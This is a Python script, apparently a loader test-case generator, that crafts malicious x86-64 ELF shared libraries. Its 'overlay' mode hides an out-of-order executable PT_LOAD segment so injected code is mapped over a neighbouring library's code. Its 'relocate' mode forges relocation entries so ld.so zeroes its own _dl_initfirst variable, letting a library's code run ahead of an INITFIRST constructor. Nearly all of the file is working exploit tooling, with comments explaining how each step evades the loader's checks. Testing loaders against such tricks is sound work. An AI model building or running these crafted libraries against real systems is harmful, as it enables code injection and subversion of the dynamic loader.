#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
"""Turns an ordinary shared library into one that runs its code before an INITFIRST constructor.

    craft.py overlay BASE VICTIM PAGE OUT      A50: one more PT_LOAD, out of order, over VICTIM's code
    craft.py relocate BASE PROBE OUT           A51: two relocations that clear ld.so's _dl_initfirst

BASE is what the linker made. PAGE is 4096 bytes of code. PROBE is a file with the line that libprobe.so prints.
Assumes a well-formed x86-64 ELF file from this build; anything else ends in an exception.
"""
import struct
import sys

PAGE = 4096
PT_LOAD, PT_DYNAMIC, PT_NOTE = 1, 2, 4
PF_X, PF_W, PF_R = 1, 2, 4
DT_RELA, DT_RELASZ = 7, 8
R_64, R_PC32, R_SIZE64 = 1, 2, 33
PHDR = struct.Struct("<IIQQQQQQ")  # type flags offset vaddr paddr filesz memsz align
RELA = struct.Struct("<QQq")


def headers(image):
    at, = struct.unpack_from("<Q", image, 32)
    count, = struct.unpack_from("<H", image, 56)
    return at, [list(PHDR.unpack_from(image, at + i * PHDR.size)) for i in range(count)]


def put_headers(image, at, table):
    for i, header in enumerate(table):
        PHDR.pack_into(image, at + i * PHDR.size, *header)


def page_up(value):
    return (value + PAGE - 1) // PAGE * PAGE


def overlay(base, victim, page, out):
    image = bytearray(open(base, "rb").read())
    code = open(page, "rb").read()
    assert len(code) == PAGE
    _, victim_table = headers(open(victim, "rb").read())
    victim_code = next(h for h in victim_table if h[0] == PT_LOAD and h[1] & PF_X)
    assert victim_code[6] <= PAGE

    at, table = headers(image)
    loads = [h for h in table if h[0] == PT_LOAD]
    # The victim was mapped just before and lies just above: ASLR moves both by the same distance.
    distance = page_up(max(h[3] + h[6] for h in loads)) - loads[0][3] // PAGE * PAGE
    image += bytes(page_up(len(image)) - len(image))
    extra = [PT_LOAD, PF_R | PF_X, len(image), distance + victim_code[3] // PAGE * PAGE, 0, PAGE, PAGE, PAGE]
    extra[4] = extra[3]
    image += code
    # ld.so reserves memory up to the end of the *last* PT_LOAD; the extra one must come before it to go
    # unnoticed. A note gives its place in the table.
    note = next(i for i, h in enumerate(table) if h[0] == PT_NOTE)
    del table[note]
    table.insert(next(i for i, h in enumerate(table) if h[0] == PT_LOAD) + 1, extra)
    put_headers(image, at, table)
    open(out, "wb").write(image)


def offset_of(table, vaddr):
    for h in table:
        if h[0] == PT_LOAD and h[3] <= vaddr < h[3] + h[5]:
            return vaddr - h[3] + h[2]
    raise ValueError(f"{vaddr:#x} is in no PT_LOAD")


def relocate(base, probe, out):
    image = bytearray(open(base, "rb").read())
    fields = open(probe, encoding="ascii").read().split()
    assert fields[0] == "initfirst" and fields[2] == "size"
    initfirst, size = int(fields[1]), int(fields[3])

    at, table = headers(image)
    dynamic = next(h for h in table if h[0] == PT_DYNAMIC)
    tags = dict(struct.unpack_from("<QQ", image, dynamic[2] + i * 16) for i in reversed(range(dynamic[5] // 16)))
    rela = tags[DT_RELA]
    entries = range(rela, rela + tags[DT_RELASZ], RELA.size)
    first = next(e for e in entries if RELA.unpack_from(image, offset_of(table, e))[1] & 0xffffffff == R_64)
    second = first + RELA.size
    symbol = RELA.unpack_from(image, offset_of(table, first))[1] >> 32
    assert RELA.unpack_from(image, offset_of(table, second))[1] == symbol << 32 | R_64

    # S + A - P, P being the place: the load address of this library plus `second`. What is left is the
    # distance of _dl_initfirst from the load address, which is what the second entry's r_offset must be.
    RELA.pack_into(image, offset_of(table, first), second, symbol << 32 | R_PC32, initfirst + second)
    # The symbol's size minus itself: stores 0.
    RELA.pack_into(image, offset_of(table, second), 0, symbol << 32 | R_SIZE64, -size)
    for h in table:
        if h[0] == PT_LOAD and h[3] <= rela < h[3] + h[6]:
            h[1] |= PF_W
    put_headers(image, at, table)
    open(out, "wb").write(image)


if __name__ == "__main__":
    {"overlay": overlay, "relocate": relocate}[sys.argv[1]](*sys.argv[2:])
